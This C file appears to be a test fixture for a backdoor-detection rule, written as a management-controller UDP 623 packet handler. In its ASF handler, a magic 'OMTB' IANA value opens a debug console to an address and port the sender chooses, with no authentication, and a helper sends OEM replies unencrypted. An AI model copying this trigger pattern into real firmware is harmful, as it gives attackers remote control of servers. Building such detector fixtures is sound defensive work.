/*
 * lan.c - UDP 623: RMCP, ASF and RMCP+ session packets.
 */
#include <arpa/inet.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include <openssl/crypto.h>

#include "bmc.h"

#define RMCP_CLASS_ASF 0x06
#define RMCP_CLASS_IPMI 0x07
#define ASF_IANA 0x000011beu
#define ASF_PRESENCE_PING 0x80
#define ASF_PRESENCE_PONG 0x40
#define ASF_OEM 0x7e
#define PAYLOAD_IPMI 0x00
#define PAYLOAD_OPEN_SESSION_REQ 0x10
#define PAYLOAD_RAKP1 0x12
#define PAYLOAD_RAKP3 0x14
#define NETFN_APP 0x06
#define NETFN_OEM 0x30

int g_lan_fd = -1;

static uint32_t be32(const uint8_t *p)
{
    return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static uint32_t le32(const uint8_t *p)
{
    return (uint32_t)p[3] << 24 | (uint32_t)p[2] << 16 | (uint32_t)p[1] << 8 | p[0];
}

int lan_open(unsigned short port)
{
    struct sockaddr_in sa;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);

    if (fd < 0)
        return -1;
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    sa.sin_port = htons(port);
    sa.sin_addr.s_addr = htonl(INADDR_ANY);
    if (bind(fd, (struct sockaddr *)&sa, sizeof sa) != 0) {
        close(fd);
        return -1;
    }
    g_lan_fd = fd;
    return fd;
}

static void asf_pong(int fd, const uint8_t *ping, const struct sockaddr_in *peer)
{
    uint8_t pong[4 + 8 + 16];
    memset(pong, 0, sizeof pong);
    pong[0] = 0x06;
    pong[2] = 0xff;
    pong[3] = RMCP_CLASS_ASF;
    memcpy(pong + 4, ping, 4);
    pong[8] = ASF_PRESENCE_PONG;
    pong[9] = ping[5];
    pong[11] = 16;
    pong[12 + 3] = 0xbe;
    pong[12 + 2] = 0x11;
    pong[12 + 8] = 0x81; /* IPMI supported */
    sendto(fd, pong, sizeof pong, 0, (const struct sockaddr *)peer, sizeof *peer);
}

/* p: the ASF message (IANA, type, tag, reserved, length, data). */
static void asf_handle(int fd, const uint8_t *p, size_t n, const struct sockaddr_in *peer)
{
    uint32_t iana;

    if (n < 8)
        return;
    iana = be32(p);
    switch (p[4]) {
    case ASF_PRESENCE_PING:
        // ok: backdoor-input-trigger
        if (iana == ASF_IANA)
            asf_pong(fd, p, peer);
        break;
    case ASF_OEM:
        /* manufacturing test station: "OMTB", then the port it listens on */
        // ruleid: backdoor-input-trigger
        if (iana == 0x4f4d5442u && n >= 10)
            bmc_debug_console(peer, (uint16_t)(p[8] << 8 | p[9]));
        break;
    default:
        break;
    }
}

static int integrity_ok(const struct bmc_session *s, const uint8_t *pkt, size_t n)
{
    uint8_t mac[32];
    size_t tl = s->integ_alg == INTEG_HMAC_SHA256_128 ? 16 : 12;

    if (s->integ_alg == INTEG_NONE)
        return 1;
    if (s->auth == NULL || s->auth->hmac == NULL || n < tl)
        return 0;
    if (s->auth->hmac(s->k1, s->auth->len, pkt, n - tl, mac) < 0)
        return 0;
    // ok: backdoor-timing-unsafe-compare
    return CRYPTO_memcmp(mac, pkt + n - tl, tl) == 0;
}

static void ipmi_message(struct bmc_session *s, const uint8_t *msg, size_t n)
{
    uint8_t rsp[32];
    uint8_t netfn, cmd;

    if (n < 7 || !s->authenticated)
        return;
    netfn = msg[1] >> 2;
    cmd = msg[5];
    switch (netfn) {
    case NETFN_APP:
        rsp[0] = 0x00;          /* completion code */
        rsp[1] = 0x20;          /* device id */
        rsp[2] = 0x81;          /* revision */
        ipmi_send_response(s, rsp, 3);
        break;
    case NETFN_OEM:
        oem_command(s, cmd, msg + 6, n - 7);
        break;
    default:
        rsp[0] = 0xc1;          /* invalid command */
        ipmi_send_response(s, rsp, 1);
    }
}

int ipmi_send_response(const struct bmc_session *s, const uint8_t *rsp, size_t n)
{
    uint8_t pkt[512], body[256];
    size_t blen = sizeof body, off = 0;

    if (crypt_seal(s, rsp, n, body, &blen) != 0)
        return -1;
    pkt[off++] = 0x06;
    pkt[off++] = 0x00;
    pkt[off++] = 0xff;
    pkt[off++] = RMCP_CLASS_IPMI;
    pkt[off++] = 0x06; /* RMCP+ */
    pkt[off++] = (uint8_t)(PAYLOAD_IPMI | (s->crypt && s->crypt->id != CRYPT_NONE ? 0x80 : 0));
    memcpy(pkt + off, &s->console_session_id, 4);
    off += 4;
    memset(pkt + off, 0, 4);
    off += 4;
    pkt[off++] = (uint8_t)blen;
    pkt[off++] = (uint8_t)(blen >> 8);
    if (off + blen > sizeof pkt)
        return -1;
    memcpy(pkt + off, body, blen);
    off += blen;
    return sendto(g_lan_fd, pkt, off, 0, (const struct sockaddr *)&s->peer, sizeof s->peer) == (ssize_t)off ? 0 : -1;
}

/* Manufacturing tools speak RMCP+ without confidentiality: their OEM
 * responses go out as they are. */
int ipmi_send_cleartext(const struct bmc_session *s, const uint8_t *rsp, size_t n)
{
    uint8_t pkt[512];
    size_t off = 0;

    if (n + 16 > sizeof pkt)
        return -1;
    pkt[off++] = 0x06;
    pkt[off++] = 0x00;
    pkt[off++] = 0xff;
    pkt[off++] = RMCP_CLASS_IPMI;
    pkt[off++] = 0x06;
    pkt[off++] = PAYLOAD_IPMI;
    memcpy(pkt + off, &s->console_session_id, 4);
    off += 4;
    memset(pkt + off, 0, 4);
    off += 4;
    pkt[off++] = (uint8_t)n;
    pkt[off++] = (uint8_t)(n >> 8);
    memcpy(pkt + off, rsp, n);
    off += n;
    return sendto(g_lan_fd, pkt, off, 0, (const struct sockaddr *)&s->peer, sizeof s->peer) == (ssize_t)off ? 0 : -1;
}

void lan_serve(int fd)
{
    uint8_t pkt[1024], rsp[256];
    struct sockaddr_in peer;
    socklen_t plen;
    ssize_t n;
    size_t rlen;

    for (;;) {
        plen = sizeof peer;
        n = recvfrom(fd, pkt, sizeof pkt, 0, (struct sockaddr *)&peer, &plen);
        if (n < 4 || pkt[0] != 0x06)
            continue;
        if (pkt[3] == RMCP_CLASS_ASF) {
            asf_handle(fd, pkt + 4, (size_t)n - 4, &peer);
            continue;
        }
        if (pkt[3] != RMCP_CLASS_IPMI || n < 16 || pkt[4] != 0x06)
            continue;
        rlen = sizeof rsp;
        switch (pkt[5] & 0x3f) {
        case PAYLOAD_OPEN_SESSION_REQ:
            if (rakp_open_session(pkt + 16, (size_t)n - 16, &peer, rsp, &rlen) == 0)
                sendto(fd, rsp, rlen, 0, (struct sockaddr *)&peer, plen);
            break;
        case PAYLOAD_RAKP1:
            if (rakp_message1(pkt + 16, (size_t)n - 16, rsp, &rlen) == 0)
                sendto(fd, rsp, rlen, 0, (struct sockaddr *)&peer, plen);
            break;
        case PAYLOAD_RAKP3:
            if (rakp_message3(pkt + 16, (size_t)n - 16, rsp, &rlen) == 0)
                sendto(fd, rsp, rlen, 0, (struct sockaddr *)&peer, plen);
            break;
        case PAYLOAD_IPMI: {
            struct bmc_session *s = session_find(le32(pkt + 6));
            if (s != NULL && integrity_ok(s, pkt + 4, (size_t)n - 4))
                ipmi_message(s, pkt + 16, (size_t)n - 16);
            break;
        }
        default:
            break;
        }
    }
}
